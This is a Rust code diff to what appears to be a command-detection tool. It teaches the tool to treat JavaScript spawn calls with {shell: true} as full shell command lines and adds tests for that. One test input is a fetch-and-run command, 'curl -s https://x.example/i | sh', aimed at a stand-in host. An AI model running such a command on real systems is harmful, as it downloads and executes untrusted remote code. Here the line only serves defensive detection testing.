@@ -1926,7 +1926,23 @@ impl Code<'_> {
                 },
             }
         }
+        // JS's `{ shell: true }` (any value but `false`): the words are
+        // joined by spaces and run by a shell, so a `|` among them pipes.
+        let shell_option = self.lang == Lang::Js
+            && (start..end).any(|k| {
+                matches!(&self.toks[k], Tok::Name(n) if n == "shell")
+                    && self.toks.get(k + 1) == Some(&Tok::Punct(':'))
+                    && !matches!(self.toks.get(k + 2), Some(Tok::Name(v)) if v == "false")
+            });
         let mut words = argv.words;
+        if shell_option && words.len() > 1 {
+            return Some(Folded {
+                text: words.join(" "),
+                decoded: argv.decoded,
+                literal: argv.literal && !argv.opaque,
+                opaque: argv.opaque,
+            });
+        }
         // `execvp(file, [file, args…])` names the program twice.
         if words.len() > 1 && words[1].rsplit('/').next() == words[0].rsplit('/').next() {
             words.remove(0);
@@ -2587,6 +2603,27 @@ mod tests {
         assert_eq!(
             script_word("gawk", &argv(&["gawk", "-E", "x.awk"])),
             Some(2)
+        );
+    }
+
+    #[test]
+    fn a_js_argv_run_by_a_shell_is_a_command_line() {
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                r#"require("child_process").spawn("curl", ["-s", "https://x.example/i", "|", "sh"], {shell: true})"#
+            ]),
+            vec!["curl -s https://x.example/i | sh".to_string()]
+        );
+        // Without a shell the `|` is an argument.
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                r#"require("child_process").spawn("echo", ["a", "|", "b"], {shell: false})"#
+            ]),
+            vec!["echo a '|' b".to_string()]
         );
     }
 
